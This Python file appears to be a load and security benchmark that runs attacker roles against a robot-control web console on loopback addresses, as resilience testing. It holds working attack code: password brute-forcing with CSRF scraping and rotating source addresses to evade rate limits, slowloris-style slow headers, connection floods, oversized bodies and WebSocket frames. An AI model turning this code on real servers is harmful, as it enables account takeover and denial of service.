"""Strangers at the web port: ``python -m benchmarks.attacks.web_side ROLE SECONDS HOST PORT ORIGIN``.

ATTACK_COOKIE in the environment is the Cookie header of roles that are signed in. Attackers use other loopback
addresses than the person who drives. Each role ends after SECONDS, or at SIGTERM.
"""

from __future__ import annotations

import asyncio
import os
import re
import signal
import ssl
import struct
import sys
import time
import urllib.parse
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from itertools import count, cycle

from robots.shared import wire

ADDRESSES = [f"127.0.0.{last}" for last in range(2, 6)]
GUESSES = 60  # at once
GUESSES_FROM = "127.0.{}.{}"  # a new address for each wave: the server delays an address that has guessed
BODY = 500_000_000
CHUNK = bytes(1 << 20)
BODY_GAP_S = 0.002  # between two chunks: at most 500 MB/s
SLOW, IDLE = 200, 300  # connections
SLOW_GAP_S = 1.0
REQUESTS_HZ, REQUESTS_MOST = 100.0, 16
REFUSED_HZ = 60.0
ANSWER_S = 15.0
FAULTS = (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError, ssl.SSLError)
_CSRF = re.compile(rb'name="csrfmiddlewaretoken" value="([^"]+)"')
_COOKIE = re.compile(rb"(?i)set-cookie: ([^;\r\n]+)")


@dataclass
class Target:
    """The console, and counts of the attacker's actions."""

    host: str
    port: int
    origin: str
    cookie: str = ""
    done: dict[str, int] = field(default_factory=dict)

    def count(self, what: str, number: int = 1) -> None:
        """Add to a count, which the last line of output shows."""
        self.done[what] = self.done.get(what, 0) + number

    @asynccontextmanager
    async def connected(
        self, source: str
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Connect from one of the attackers' addresses; close at the end."""
        opening = asyncio.open_connection(self.host, self.port, local_addr=(source, 0))
        reader, writer = await asyncio.wait_for(opening, ANSWER_S)
        try:
            yield reader, writer
        finally:
            writer.close()

    def head(self, method: str, path: str, *lines: str, cookie: str | None = None) -> bytes:
        """Return a request's head without the empty line."""
        first = [f"{method} {path} HTTP/1.1", f"Host: {self.host}:{self.port}", f"Origin: {self.origin}"]
        if cookie is None:
            cookie = self.cookie
        if cookie:
            first.append(f"Cookie: {cookie}")
        return "\r\n".join((*first, *lines, "")).encode()

    async def ask(self, source: str, request: bytes) -> bytes:
        """Send one request with "Connection: close"; return the whole answer."""
        async with self.connected(source) as (reader, writer):
            writer.write(request)
            answer = await asyncio.wait_for(reader.read(), ANSWER_S)
        self.count(answer[9:12].decode(errors="replace") or "nothing")
        return answer


async def guesses(target: Target) -> None:
    """Guess sixty passwords at once, again and again, each wave from a new address."""
    for wave in count():
        source = GUESSES_FROM.format(1 + wave // 250 % 250, 1 + wave % 250)
        with suppress(*FAULTS):
            page = await target.ask(source, target.head("GET", "/accounts/sign-in/", CLOSE) + b"\r\n")
            token, cookies = _CSRF.search(page), _COOKIE.findall(page)
            if token is None or not cookies:
                await asyncio.sleep(0.2)
                continue
            cookie = "; ".join(one.decode() for one in cookies)
            await asyncio.gather(
                *(_guess(target, source, cookie, token[1].decode(), n) for n in range(GUESSES))
            )


async def _guess(target: Target, source: str, cookie: str, token: str, number: int) -> None:
    fields = {"username": "operator", "password": f"guess-{number}", "csrfmiddlewaretoken": token}
    form = urllib.parse.urlencode(fields).encode()
    head = target.head(
        "POST",
        "/accounts/sign-in/",
        CLOSE,
        "Content-Type: application/x-www-form-urlencoded",
        f"Referer: {target.origin}/accounts/sign-in/",
        f"Content-Length: {len(form)}",
        cookie=cookie,
    )
    with suppress(*FAULTS):
        await target.ask(source, head + b"\r\n" + form)


async def bodies(target: Target) -> None:
    """Send 500 MB to one URL after the other, two at the same time, as far as the console reads them."""
    paths = ("/accounts/sign-in/", "/api/v1/stop/", "/", "/robots/tiago-1/stop/", "/nowhere/", "/static/x.js")
    turns = cycle(paths)

    async def send(source: str) -> None:
        head = target.head("POST", next(turns), "Content-Type: text/plain", f"Content-Length: {BODY}")
        async with target.connected(source) as (reader, writer):
            writer.write(head + b"\r\n")
            for _ in range(BODY // len(CHUNK) + 1):
                writer.write(CHUNK)
                target.count("MB sent")
                await asyncio.wait_for(writer.drain(), ANSWER_S)
                await asyncio.sleep(BODY_GAP_S)
            answer = await asyncio.wait_for(reader.read(12), ANSWER_S)
            target.count(answer[9:12].decode(errors="replace"))

    await _kept(target, 2, send)


async def slow_heads(target: Target) -> None:
    """Open 200 connections that send one header line a second and never end the header."""

    async def drip(source: str) -> None:
        async with target.connected(source) as (_, writer):
            target.count("connections")
            writer.write(target.head("GET", "/"))
            for number in count():
                writer.write(f"X-{number}: x\r\n".encode())
                await writer.drain()
                await asyncio.sleep(SLOW_GAP_S)

    await _kept(target, SLOW, drip)


async def idle(target: Target) -> None:
    """Open 300 silent connections."""

    async def wait(source: str) -> None:
        async with target.connected(source) as (reader, _):
            target.count("connections")
            await reader.read()

    await _kept(target, IDLE, wait)


async def huge_frames(target: Target) -> None:
    """Send WebSocket frames of hundreds of megabytes without a session."""

    async def talk(source: str) -> None:
        async with target.connected(source) as (reader, writer):
            writer.write(target.head("GET", "/ws/robots/tiago-1/", *UPGRADE) + b"\r\n")
            answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), ANSWER_S)
            target.count(answer[9:12].decode(errors="replace"))
            writer.write(struct.pack("!BBQ4x", 0x81, 0xFF, BODY))
            for _ in range(BODY // len(CHUNK)):
                writer.write(CHUNK)
                target.count("MB sent")
                await asyncio.wait_for(writer.drain(), ANSWER_S)
                await asyncio.sleep(BODY_GAP_S)

    await _kept(target, 4, talk)


async def handshakes(target: Target) -> None:
    """Send WebSocket handshakes with megabytes of URL and headers."""
    for source, number in zip(cycle(ADDRESSES), count()):
        path = "/ws/robots/tiago-1/" + ("?" + "x" * 4_000_000 if number % 2 else "")
        lines = [] if number % 2 else [f"X-{line}: {'x' * 1000}" for line in range(4000)]
        request = target.head("GET", path, *UPGRADE, *lines) + b"\r\n"
        with suppress(*FAULTS):
            async with target.connected(source) as (reader, writer):
                writer.write(request)
                await asyncio.wait_for(writer.drain(), ANSWER_S)
                answer = await asyncio.wait_for(reader.read(12), 1.0)
                target.count(answer[9:12].decode(errors="replace") or "closed")
        await asyncio.sleep(0.02)


async def pages(target: Target) -> None:
    """Request 100 pages and REST answers a second, at most 16 at once; half of them signed in."""
    paths = (
        "/",
        "/accounts/sign-in/",
        "/api/v1/robots",
        "/robots/tiago-1/",
        "/api/v1/robots/tiago-1",
        "/healthz",
    )
    under_way: set[asyncio.Task[None]] = set()

    async def ask(path: str, source: str, cookie: str) -> None:
        with suppress(*FAULTS):
            await target.ask(source, target.head("GET", path, CLOSE, cookie=cookie) + b"\r\n")

    begun = cycle((path, cookie) for cookie in ("", target.cookie) for path in paths)
    due_s = time.monotonic()
    for (path, cookie), source in zip(begun, cycle(ADDRESSES)):
        if len(under_way) < REQUESTS_MOST:
            task = asyncio.ensure_future(ask(path, source, cookie))
            under_way.add(task)
            task.add_done_callback(under_way.discard)
        else:
            target.count("too many under way")
        due_s = max(due_s + 1.0 / REQUESTS_HZ, time.monotonic() - 0.5)
        await asyncio.sleep(max(0.0, due_s - time.monotonic()))


async def refused(target: Target) -> None:
    """Request everything that an observer may not do, by WebSocket and by REST."""
    await asyncio.gather(_refused_messages(target), _refused_requests(target))


async def _refused_messages(target: Target) -> None:
    messages = [wire.Take(), wire.Clear(1), wire.TakeOver("because"), wire.Renew(), wire.LookAhead(1, 1)]
    texts = [wire.encode(message) for message in messages] + [b'{"t":"nonsense"}', b"[]"]
    while True:
        with suppress(*FAULTS):
            async with target.connected(ADDRESSES[0]) as (reader, writer):
                writer.write(target.head("GET", "/ws/robots/tiago-1/", *UPGRADE) + b"\r\n")
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), ANSWER_S)
                writer.write(_text_frame(wire.encode(wire.Hello("observer-who-may-not"))))
                reading = asyncio.ensure_future(_read_all(reader))
                for text in cycle(texts):
                    if reading.done():
                        break
                    writer.write(_text_frame(text))
                    target.count("messages")
                    await writer.drain()
                    await asyncio.sleep(1.0 / REFUSED_HZ)
        await asyncio.sleep(0.2)


async def _refused_requests(target: Target) -> None:
    paths = (
        "/api/v1/robots/nobody/",
        "/api/v1/nowhere/",
        "/robots/tiago-1/report/",
        "/admin/",
        "/ws/nowhere/",
    )
    for number, path in zip(count(), cycle(paths)):
        with suppress(*FAULTS):
            await target.ask(ADDRESSES[0], target.head("GET", f"{path}?{number}", CLOSE) + b"\r\n")
        await asyncio.sleep(0.1)


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(*FAULTS):
        while await reader.read(1 << 16):
            pass


def _text_frame(text: bytes) -> bytes:
    """Return a frame of fewer than 126 bytes, masked with zeros."""
    return bytes((0x81, 0x80 | len(text))) + bytes(4) + text


async def _kept(target: Target, number: int, talk: Callable[[str], Awaitable[None]]) -> None:
    """Keep this number of connections open. Open a connection again 0.25 s after the console ended it."""

    async def again(source: str) -> None:
        while True:
            with suppress(*FAULTS):
                await talk(source)
            target.count("ended")
            await asyncio.sleep(0.25)

    sources: Iterable[str] = (ADDRESSES[place % len(ADDRESSES)] for place in range(number))
    await asyncio.gather(*(again(source) for source in sources))


CLOSE = "Connection: close"
UPGRADE = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)
ROLES: dict[str, Callable[[Target], Awaitable[None]]] = {
    "guesses": guesses,
    "bodies": bodies,
    "slow-heads": slow_heads,
    "idle": idle,
    "huge-frames": huge_frames,
    "handshakes": handshakes,
    "pages": pages,
    "refused": refused,
}


async def attack(role: str, target: Target, seconds: float) -> None:
    """Run a role until the time is over, or SIGTERM."""
    task = asyncio.ensure_future(ROLES[role](target))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, task.cancel)
    with suppress(asyncio.CancelledError, asyncio.TimeoutError):
        await asyncio.wait_for(task, seconds)


def main() -> None:
    """Run the role of the first argument."""
    role, seconds, host, port, origin = sys.argv[1:]
    target = Target(host, int(port), origin, os.environ.get("ATTACK_COOKIE", ""))
    os.nice(10)  # an attacker usually has its own computer
    asyncio.run(attack(role, target, float(seconds)))
    print(" ".join(f"{what}:{number}" for what, number in sorted(target.done.items())), flush=True)


if __name__ == "__main__":
    main()
